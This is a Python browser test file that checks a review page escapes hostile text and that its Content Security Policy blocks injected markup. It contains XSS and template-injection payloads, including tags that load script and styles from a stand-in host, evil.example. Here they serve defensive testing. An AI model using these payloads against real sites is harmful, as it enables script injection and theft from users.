"""Texts of the sites that would like to be more than texts."""

from datetime import UTC, datetime

import pytest
from playwright.sync_api import expect

from reconciler.models.guards import GuardFigures
from reconciler.models.members import MemberChange
from reconciler.models.plan import CohortPlan, Plan, Problem, RolePlan, TextChange
from reconciler.render.html import page as written
from reconciler.render.review import review
from tests.browser.conftest import Open
from tests.browser.plans import monday

SCRIPT = "<script>alert(1); window.hacked = 1</script>"
HOSTILE = [
    SCRIPT,
    "</script><script>window.hacked = 1</script>",
    "</style><img src=x onerror='window.hacked=1'>",
    "\"' onmouseover=window.hacked=1 x='",
    "{{ 7 * 7 }}{% raw %}${window.hacked = 1}",
    "<!--",
    "]]></td></table><h1>Everything is fine</h1>",
    "&lt;b&gt; & &amp;",
    "javascript:window.hacked=1",
    "محمد",
]


def hostile(text: str, *, undoes: bool = False) -> Plan:
    """A plan that says this wherever a site has a say."""
    plan = monday()
    member = MemberChange("remove", moodle=1, avc=2, by="email", because="left-guild", name=text)
    cohort = CohortPlan(
        guild=text,
        uuid=text,
        role=text,
        cohort=9,
        action="update",
        name=TextChange(from_=text, to=f"{text}!"),
        description=TextChange(from_=None, to=text),
        members=(member,),
    )
    return plan.model_copy(
        update={
            "made": datetime(2026, 1, 1, tzinfo=UTC),
            "undoes": text if undoes else None,
            "avc": plan.avc.model_copy(update={"site": text, "uuid": text}),
            "moodle": plan.moodle.model_copy(update={"site": text, "url": text, "release": text}),
            "only": (text,),
            "exclude": (text,),
            "guards": (
                GuardFigures(guard="removals", limit=text, found=text, ok=False, acknowledge=text),
            ),
            "roles": (RolePlan(role=text, guild_roles=(text,), way="none", because="impossible"),),
            "cohorts": (cohort,),
            "problems": (Problem(kind="stranger", name=text, accounts=(1,), guilds=(text,)),),
        }
    )


@pytest.mark.parametrize("undoes", [False, True])
@pytest.mark.parametrize("text", HOSTILE)
def test_whatever_a_text_holds_is_shown_as_text(
    opened: Open, requests: list[str], text: str, undoes: bool
) -> None:
    """No element, no script and no request comes of it, and it reads as it was."""
    page = opened(hostile(text, undoes=undoes))
    plain = opened(hostile("harmless", undoes=undoes))
    count = "document.querySelectorAll('*').length"
    changed = page.locator("ins, del").count() - plain.locator("ins, del").count()
    assert page.evaluate(count) - changed == plain.evaluate(count)
    assert page.evaluate("window.hacked") is None
    assert requests == []
    assert page.locator(".guild h3").inner_text() == text
    assert page.locator(".people tbody tr:not(.why) th").inner_text() == text
    assert page.locator(".problems bdi").first.inner_text() == text
    assert page.locator(".facts bdi").all_inner_texts() == [text] * (1 if undoes else 2)


def test_hostile_texts_are_found_by_what_they_say(opened: Open) -> None:
    """The filter takes them, and itself, for text."""
    page = opened(hostile(SCRIPT))
    page.get_by_role("searchbox").fill(SCRIPT)
    expect(page.get_by_role("status")).to_have_text(
        "3 of 3 changes, 1 of 1 guilds, 1 of 1 problems"
    )


@pytest.mark.parametrize(
    "injected",
    [
        SCRIPT,
        "<img src=x onerror='window.hacked = 1'>",
        "<a href='javascript:window.hacked = 1' id=trap>x</a><base href='https://evil.example/'>",
        "<script src='https://evil.example/x.js'></script>",
        "<iframe srcdoc='<script>parent.hacked = 1</script>'></iframe>",
        "<link rel=stylesheet href='https://evil.example/x'><style>body {display: none}</style>",
    ],
)
def test_what_is_put_into_the_file_does_not_run(
    opened: Open, complaints: list[str], requests: list[str], injected: str
) -> None:
    """The page's policy stops whatever is not its own script and style, and each request."""
    text = written(review(monday()))
    place = '<h2 id="changes-title">'
    page = opened(text.replace(place, injected + place))
    for trap in page.locator("#trap").all():
        trap.click()
    page.wait_for_load_state("networkidle")
    assert page.evaluate("window.hacked") is None
    assert page.locator("main").is_visible()
    assert requests == []
    assert any("Content Security Policy" in complaint for complaint in complaints)
    complaints.clear()
